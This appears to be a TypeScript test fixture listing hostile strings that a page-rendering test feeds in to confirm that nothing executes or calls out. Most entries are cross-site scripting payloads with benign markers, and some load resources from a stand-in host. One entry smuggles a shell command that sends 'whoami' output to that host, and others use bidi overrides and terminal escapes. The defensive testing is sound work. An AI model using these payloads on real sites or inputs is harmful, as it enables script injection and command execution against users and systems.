/** Texts that try to become markup, script or a request: one for each way a page could let them. */

/** What each would do if it ran: the page's title says so, and `fired` is set. */
const RUN = "window.fired=1;document.title='fired'";
/** Nothing answers there; a test counts that nothing asks. */
export const ELSEWHERE = "https://elsewhere.invalid";

export const HOSTILE_TEXTS: readonly string[] = [
  `<script>${RUN}</script>`,
  `</title></textarea></style></script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg onload="${RUN}">`,
  `'><body onload='${RUN}'>`,
  `" autofocus onfocus="${RUN}" x="`,
  `' onmouseover='${RUN}`,
  `<iframe srcdoc="<script>parent.fired=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">click</a>`,
  `[click](javascript:${RUN})`,
  `![picture](${ELSEWHERE}/picture.png)`,
  `<img src="${ELSEWHERE}/pixel.gif">`,
  `<link rel="stylesheet" href="${ELSEWHERE}/style.css">`,
  `<style>@import "${ELSEWHERE}/import.css"; body{background:url(${ELSEWHERE}/background)}</style>`,
  `<form action="${ELSEWHERE}/form"><button autofocus>ok</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/refresh">`,
  `<base href="${ELSEWHERE}/">`,
  `<object data="${ELSEWHERE}/object"></object><embed src="${ELSEWHERE}/embed">`,
  `<video src="${ELSEWHERE}/video" autoplay></video><audio src="${ELSEWHERE}/audio"></audio>`,
  `<details open ontoggle="${RUN}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;&#60;script&#62;`,
  `{{constructor.constructor('window.fired=1')()}} \${window.fired=1} #{fired}`,
  `\`\`\`html\n</pre></code><script>${RUN}</script>\n\`\`\``,
  `**<b onclick="${RUN}">** \`<i onclick="${RUN}">\``,
  "\u202Eevil\u202C \u2066text\u2069 that turns around",
  `'; curl ${ELSEWHERE}/$(whoami); echo '`,
  "`touch fired` $(touch fired) ; touch fired #",
  `]]><![CDATA[<script>${RUN}</script>]]>`,
  `data:text/html,<script>${RUN}</script>`,
  `\u001B]8;;${ELSEWHERE}\u0007terminal\u001B]8;;\u0007 \u001B[2J`,
];
